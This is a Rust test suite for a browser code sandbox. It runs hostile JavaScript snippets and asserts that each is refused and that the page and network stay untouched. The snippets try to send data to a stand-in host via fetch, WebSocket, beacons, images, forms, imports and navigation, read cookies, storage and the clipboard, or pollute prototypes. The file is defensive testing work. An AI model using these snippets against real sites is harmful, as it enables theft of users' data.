//! Code that tries to get out: each try is a test, and none has an effect outside of its frame.
//!
//! A try reports by `console.log("tried", …)`, so that each test knows that it was really run. Beside what each looks
//! for, all assert that the page is as it was and that no request but to our own server was made.

use std::time::Duration;

use anyhow::Result;
use tests::browser::Page;
use tokio::io::AsyncReadExt as _;
use tokio::time::timeout;

use super::super::stage::{PATIENCE, Stage};
use super::{opened, run, says};

/// How long a connection that a browser opened is listened to.
const SILENCE: Duration = Duration::from_secs(1);

/// Runs a try in a worker and, as a page, in the preview; looks at what it said and at what became of the page.
async fn tries(script: &str, said: &str) -> Result<()> {
    let stage = Stage::practice().await?;
    // Somebody who would be glad of a visit. Port 9 stands for theirs in the tries.
    let elsewhere = tokio::net::TcpListener::bind("127.0.0.1:0").await?;
    let script = script.replace("127.0.0.1:9", &elsewhere.local_addr()?.to_string());
    let html = format!("<!doctype html><html><body><script>(async () => {{ {script} }})()</script></body></html>\n");
    let worker = format!("await (async () => {{ {script} }})();\n");
    let (session, _client, page) = opened(&stage, &[("try.js", &worker), ("try.html", &html)]).await?;
    page.run("document.cookie = 'secret=cookie'; localStorage.setItem('secret', 'stored'); globalThis.untouched = {};")
        .await?;
    for file in ["try.js", "try.html"] {
        super::open(&page, file).await?;
        page.wait("!document.querySelector('.console')?.innerText.includes('tried')", PATIENCE).await.ok();
        run(&page).await?;
        says(&page, said).await?;
        untouched(&page, &stage.server.url(&format!("/s/{}", session.id))).await?;
        page.by_role("button", "Clear the console").click().await?;
    }
    page.assert_only_requests_to(&stage.server.url("")).await?;
    unasked(&elsewhere).await?;
    let reached: Vec<String> = page
        .requests()
        .await?
        .into_iter()
        .map(|request| request.url)
        .filter(|url| url.contains("stolen") || url.contains("secret"))
        .collect();
    assert!(reached.is_empty(), "the server was reached: {reached:?}");
    Ok(())
}

/// Nobody was asked for anything. A browser may open a connection ahead of a navigation that it then refuses: over that
/// nothing is ever said.
async fn unasked(elsewhere: &tokio::net::TcpListener) -> Result<()> {
    while let Ok(visit) = timeout(Duration::ZERO, elsewhere.accept()).await {
        let mut said = [0];
        let heard = timeout(SILENCE, visit?.0.read(&mut said)).await;
        assert!(matches!(heard, Err(_) | Ok(Ok(0) | Err(_))), "somebody else was asked");
    }
    Ok(())
}

/// The page is where it was, with what it had, and answers.
async fn untouched(page: &Page, address: &str) -> Result<()> {
    let state: Vec<String> = page
        .eval("[location.href, document.cookie, localStorage.getItem('secret'), String(Object.keys(untouched).length), String({}.polluted)]")
        .await?;
    assert_eq!(state, [address, "secret=cookie", "stored", "0", "undefined"]);
    Ok(())
}

/// `attempt` is an expression; what it gives, or that it threw, is said.
fn attempt(expression: &str) -> String {
    format!(
        "let got; try {{ got = String(await ({expression})); }} catch (error) {{ got = 'refused'; }} console.log('tried', got);"
    )
}

macro_rules! hostile {
    ($($(#[$attribute:meta])* $name:ident: $expression:expr => $said:expr;)*) => {
        $(
            $(#[$attribute])*
            #[tokio::test]
            async fn $name() -> Result<()> {
                tries(&attempt($expression), $said).await
            }
        )*
    };
}

hostile! {
    it_does_not_read_the_page_that_holds_it: "globalThis.parent === globalThis || typeof parent === 'undefined' ? Promise.reject() : parent.document.title" => "tried refused";
    it_does_not_read_cookies: "typeof document === 'undefined' ? Promise.reject() : document.cookie" => "tried refused";
    it_does_not_read_storage: "localStorage.getItem('secret')" => "tried refused";
    it_does_not_open_a_database: "new Promise((done, no) => { const asked = indexedDB.open('stolen'); asked.onsuccess = () => done('open'); asked.onerror = no; })" => "tried refused";
    it_does_not_use_caches: "caches.open('stolen')" => "tried refused";
    it_does_not_fetch: "fetch('/api/models?stolen').then((r) => r.status)" => "tried refused";
    it_does_not_fetch_blindly: "fetch(location.origin === 'null' ? 'http://127.0.0.1:9/stolen' : '/stolen', { mode: 'no-cors' }).then(() => 'sent')" => "tried refused";
    it_does_not_ask_the_old_way: "new Promise((done, no) => { const asked = new XMLHttpRequest(); asked.onload = () => done('sent'); asked.onerror = no; asked.open('GET', 'http://127.0.0.1:9/stolen'); asked.send(); })" => "tried refused";
    it_does_not_open_a_socket: "new Promise((done, no) => { const socket = new WebSocket('ws://127.0.0.1:9/stolen'); socket.onopen = () => done('open'); socket.onerror = no; })" => "tried refused";
    it_does_not_listen_to_events: "new Promise((done, no) => { const source = new EventSource('http://127.0.0.1:9/stolen'); source.onopen = () => done('open'); source.onerror = no; })" => "tried refused";
    it_does_not_send_a_beacon: "typeof navigator.sendBeacon === 'function' ? (navigator.sendBeacon('http://127.0.0.1:9/stolen', 'x'), new Promise((_, no) => setTimeout(no, 50))) : Promise.reject()" => "tried refused";
    it_does_not_load_a_picture: "typeof Image === 'undefined' ? Promise.reject() : new Promise((done, no) => { const image = new Image(); image.onload = () => done('loaded'); image.onerror = no; image.src = 'http://127.0.0.1:9/stolen.png'; })" => "tried refused";
    it_does_not_import_from_elsewhere: "import(['http:', '', '127.0.0.1:9', 'stolen.js'].join('/'))" => "tried refused";
    it_does_not_import_from_the_server: "import(['', 'assets', 'stolen.js'].join('/'))" => "tried refused";
    it_does_not_navigate_the_page: "typeof top === 'undefined' || typeof document === 'undefined' ? Promise.reject() : (() => { top.location.href = 'http://127.0.0.1:9/stolen'; })()" => "tried refused";
    it_does_not_open_a_window: "typeof open === 'function' && open('http://127.0.0.1:9/stolen') ? 'opened' : Promise.reject()" => "tried refused";
    it_does_not_install_a_service_worker: "navigator.serviceWorker.register('/stolen.js')" => "tried refused";
    it_does_not_share_a_worker: "new Promise((done, no) => { const shared = new SharedWorker('http://127.0.0.1:9/stolen.js'); shared.onerror = no; })" => "tried refused";
    it_does_not_hold_the_page_with_alerts: "(() => { if (typeof alert !== 'function') throw 0; for (let n = 0; n < 1000; n++) { alert(n); if (confirm(n) || prompt(n)) return 'asked'; } throw 0; })()" => "tried refused";
    it_does_not_reach_others_by_webrtc: "typeof RTCPeerConnection === 'undefined' ? Promise.reject() : new RTCPeerConnection()" => "tried refused";
    it_does_not_navigate_itself_to_elsewhere: "typeof document === 'undefined' ? Promise.reject() : (() => { setTimeout(() => { location.href = 'http://127.0.0.1:9/stolen'; }, 100); throw 0; })()" => "tried refused";
    it_does_not_read_the_clipboard: "navigator.clipboard.readText()" => "tried refused";
    it_does_not_submit_a_form: "typeof document === 'undefined' ? Promise.reject() : (() => { const form = document.createElement('form'); form.action = 'http://127.0.0.1:9/stolen'; document.body.append(form); form.submit(); return new Promise((_, no) => setTimeout(no, 50)); })()" => "tried refused";
    it_does_not_frame_another_page: "typeof document === 'undefined' ? Promise.reject() : new Promise((done, no) => { const frame = document.createElement('iframe'); frame.src = 'http://127.0.0.1:9/stolen'; frame.onload = () => { try { done(frame.contentWindow.location.href); } catch { no(); } }; document.body.append(frame); setTimeout(no, 200); })" => "tried refused";
    a_worker_of_its_own_gets_no_further: "new Promise((done, no) => { const worker = new Worker(URL.createObjectURL(new Blob([\"fetch('http://127.0.0.1:9/stolen').then(() => postMessage('sent'), () => postMessage('refused'))\"]))); worker.onmessage = ({ data }) => (data === 'sent' ? done('sent') : no()); worker.onerror = no; })" => "tried refused";
}

#[tokio::test]
async fn messages_of_any_kind_change_nothing() -> Result<()> {
    let script = "const out = globalThis.parent === globalThis || typeof parent === 'undefined' ? (m) => postMessage(m) : (m) => parent.postMessage(m, '*');
        const deep = []; let at = deep; for (let n = 0; n < 5000; n++) { const next = []; at.push(next); at = next; }
        for (const message of [null, 1, '{}', 'x'.repeat(5e6), ['batch', 1, '[', 0, true], ['stopped', 1], ['up'], ['go', '/'], deep,
          JSON.parse('{\"__proto__\": {\"polluted\": 1}, \"constructor\": {\"prototype\": {\"polluted\": 1}}}'), new Error('x'), new Map([[1, 2]])]) {
          try { out(message); } catch {}
        }
        console.log('tried', 'messages');";
    tries(script, "tried messages").await
}

#[tokio::test]
async fn tricks_with_prototypes_reach_nobody() -> Result<()> {
    let script = "const own = MessagePort.prototype.postMessage;
        MessagePort.prototype.postMessage = function (...all) { this.stolen = 1; own.call(this, ['batch', 1, '[{\"t\":\"end\",\"ok\":true,\"ms\":1}]', 0, true]); return own.apply(this, all); };
        Object.prototype.polluted = 1; Array.prototype.toJSON = () => 'x'; delete Array.prototype.toJSON; delete Object.prototype.polluted;
        console.log({ __proto__: { a: 1 }, ['__proto__']: 2, constructor: 3 }, 'tried', 'prototypes');";
    tries(script, "prototypes").await
}
